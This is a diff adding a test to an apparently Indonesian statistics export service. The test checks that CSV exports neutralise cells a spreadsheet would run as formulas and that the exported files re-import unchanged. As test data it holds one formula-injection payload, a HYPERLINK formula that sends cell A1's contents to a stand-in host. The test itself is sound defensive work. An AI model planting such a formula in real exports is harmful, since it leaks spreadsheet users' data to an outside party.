@@ -51,6 +51,44 @@ describeEachDatabase(
       }
     });
 
+    it('neutralises text a spreadsheet would run, and such an export imports again unchanged', async () => {
+      const title = '=HYPERLINK("http://x.example/?"&A1,"klik")';
+      const file = [
+        'kode_wilayah,indikator,periode,nilai,sumber,url_sumber,catatan',
+        `75.01,poverty_rate_p0,2012,19.25,"${title.replaceAll('"', '""')}",https://www.bps.go.id/,-tidak ada`,
+        '75.01,poverty_rate_p0,2013,-0,,,@rapat',
+      ].join('\n');
+      const first = await importFile(use(), { bytes: Buffer.from(file), fileName: 'formula.csv', importedBy: 'tester' });
+      expect(first.errors).toEqual([]);
+      for (const decimal of ['point', 'comma']) {
+        const res = await request(api.http)
+          .get('/export/observations.csv')
+          .query({ indicator: 'poverty_rate_p0', region: '75.01', from: '2012', to: '2013', decimal });
+        const sep = decimal === 'comma' ? ';' : ',';
+        const [, row2012, row2013] = res.text.split('\r\n');
+        expect(row2012).toContain(
+          `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}"'-tidak ada"${sep}`,
+        );
+        expect(row2013).toContain(`${sep}0${sep}UNVERIFIED${sep}${sep}${sep}"'@rapat"${sep}`);
+        const again = await importFile(use(), {
+          bytes: Buffer.from(res.text),
+          fileName: `formula-${decimal}.csv`,
+          importedBy: 'tester',
+          options: { decimalComma: decimal === 'comma' },
+        });
+        expect(again.errors).toEqual([]);
+        expect(again.counts).toMatchObject({ records: 2, inserted: 0, updated: 0, unchanged: 2 });
+      }
+      const stored = await use().sql.query<{ title: string | null; note: string | null }>(
+        `SELECT s.title, o.note FROM observation o LEFT JOIN source s ON s.id = o.source_id
+         WHERE o.indicator_code = 'poverty_rate_p0' AND o.region_code = '75.01' AND o.year IN (2012, 2013) ORDER BY o.year`,
+      );
+      expect(stored).toEqual([
+        { title, note: '-tidak ada' },
+        { title: null, note: '@rapat' },
+      ]);
+    });
+
     it('answers a bad request in words, with 400, never an empty file or an internal error', async () => {
       const refused = async (path: string, query: Record<string, string>) => {
         const res = await request(api.http).get(`/export/${path}`).query(query);
